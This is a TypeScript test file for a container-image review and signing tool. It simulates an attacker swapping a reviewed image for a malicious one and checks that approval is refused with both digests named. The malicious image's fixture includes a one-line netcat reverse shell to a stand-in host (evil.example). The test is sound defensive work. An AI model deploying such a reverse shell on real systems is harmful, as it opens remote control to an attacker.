/**
 * The attack (session 5 attacker review, finding 1): the reviewer creates a
 * session on image A and annotates it; whoever can push where the session and
 * the image live moves the tag to B, builds a fresh session on B and copies
 * the reviewer's annotations into it, at the same path. `approve` recomputes
 * everything on the pinned digests, so the file is self-consistent: without
 * the reviewer's own record of what they pinned, it would sign B.
 */
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { writeMiniLayout, type MiniFile } from '../helpers/mini-layout.js';
import { runCli, spawnCli } from '../helpers/inspect.js';

const files =
  (extra: MiniFile[]) =>
  (): MiniFile[] => [{ path: 'etc/os-release', content: 'NAME=x\n' }, { path: 'bin/app', content: '#!/bin/sh\necho app\n', mode: 0o755 }, ...extra];

test('a session whose pins were swapped after the reviewer created it (annotations copied over) is refused by approve, naming both digests; refresh warns', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vouch-pin-swap-'));
  process.env.VOUCH_KEY_PASSWORD = 'pass phrase';
  const a = await writeMiniLayout(join(dir, 'img'), { tag: 'v2', platforms: [{ os: 'linux', architecture: 'amd64' }], files: files([]) });
  const evil = join(dir, 'evil');
  await writeMiniLayout(evil, { tag: 'v2', platforms: [{ os: 'linux', architecture: 'amd64' }], files: files([{ path: 'usr/local/bin/backdoor', content: '#!/bin/sh\nnc -e /bin/sh evil.example 4444\n', mode: 0o755 }]) });
  assert.equal((await runCli(['key', 'generate', '--out', join(dir, 'alice')])).code, 0);
  writeFileSync(join(dir, 'trust.yaml'), 'reviewers:\n  - {name: alice, key: ./alice.pub}\n');
  const release = join(dir, 'vouch.release.yaml');
  writeFileSync(release, 'name: app\nversion: 2.0.0\nimages:\n  app: oci:./img:v2\ntrust: ./trust.yaml\n');
  const session = join(dir, 'app-2.0.0.review.json');

  // The reviewer: session on A, the high findings accepted as risks.
  const init = await runCli(['session', 'init', '--release', release]);
  assert.equal(init.code, 0, init.stderr);
  const pinnedA = JSON.parse(readFileSync(session, 'utf8')).images[0].digest as string;
  assert.equal(pinnedA, a.images[0]!.manifestDigest);
  for (const id of ['VCH-PV-001', 'VCH-LP-001']) {
    const r = await runCli(['annotate', '--session', session, '--check', id, '--disposition', 'accepted-risk', '--text', `ok ${id}`, '--author', 'alice']);
    assert.equal(r.code, 0, r.stderr);
  }

  // The attacker, on their own machine: tag moved to B, a fresh session on B with the reviewer's annotations, same path.
  for (const f of readdirSync(join(evil, 'blobs', 'sha256'))) cpSync(join(evil, 'blobs', 'sha256', f), join(dir, 'img', 'blobs', 'sha256', f));
  cpSync(join(evil, 'index.json'), join(dir, 'img', 'index.json'));
  const fresh = join(mkdtempSync(join(tmpdir(), 'vouch-attacker-')), 'fresh.json');
  const theirs = await spawnCli(['session', 'init', '--release', release, '--out', fresh], { VOUCH_STATE_DIR: mkdtempSync(join(tmpdir(), 'vouch-attacker-state-')) });
  assert.equal(theirs.code, 0, theirs.stderr);
  const swapped = JSON.parse(readFileSync(fresh, 'utf8'));
  const mine = JSON.parse(readFileSync(session, 'utf8'));
  writeFileSync(session, JSON.stringify({ ...swapped, annotations: mine.annotations, createdAt: mine.createdAt }, null, 2));
  const pinnedB = swapped.images[0].digest as string;
  assert.notEqual(pinnedB, pinnedA);

  const refused = await runCli(['approve', '--session', session, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--json']);
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stderr, new RegExp(`app: the session pins ${pinnedB}, but this machine pinned ${pinnedA} when it created the session`));
  assert.equal(JSON.parse(refused.stdout).refused, 'PINS_CHANGED');
  assert.deepEqual(readdirSync(dir).filter((f) => f.endsWith('.sigstore.json')), [], 'nothing signed');

  // Refreshing the swapped file says so loudly.
  const refresh = await runCli(['session', 'init', '--release', release, '--out', session]);
  assert.match(refresh.stderr, /WARNING: app: the session pins .* but this machine pinned .*; the file was replaced or edited, and approve will refuse it/);

  // A session this machine created on B itself is B's review: approve signs it and names the digest it signs.
  const mineOnB = join(dir, 'b.review.json');
  assert.equal((await runCli(['session', 'init', '--release', release, '--out', mineOnB])).code, 0);
  for (const id of ['VCH-PV-001', 'VCH-LP-001', 'VCH-LP-003']) await runCli(['annotate', '--session', mineOnB, '--check', id, '--disposition', 'accepted-risk', '--text', 'ok', '--author', 'alice']);
  const ok = await runCli(['approve', '--session', mineOnB, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--out', join(dir, 'b.sigstore.json')]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.match(ok.stdout, new RegExp(`^subject   img:v2 sha256:${pinnedB.slice(7)}$`, 'm'));
  assert.doesNotMatch(ok.stderr, /did not create/);

  // A session created on another machine (no record here): signed, with a warning listing the digests to check.
  const elsewhere = join(dir, 'elsewhere.review.json');
  writeFileSync(elsewhere, readFileSync(mineOnB));
  const warned = await runCli(['approve', '--session', elsewhere, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--out', join(dir, 'e.sigstore.json')]);
  assert.equal(warned.code, 0, warned.stderr);
  assert.match(warned.stderr, new RegExp(`this machine did not create .*elsewhere\\.review\\.json: check that these are the digests you reviewed:\\n  app ${pinnedB}`));
});
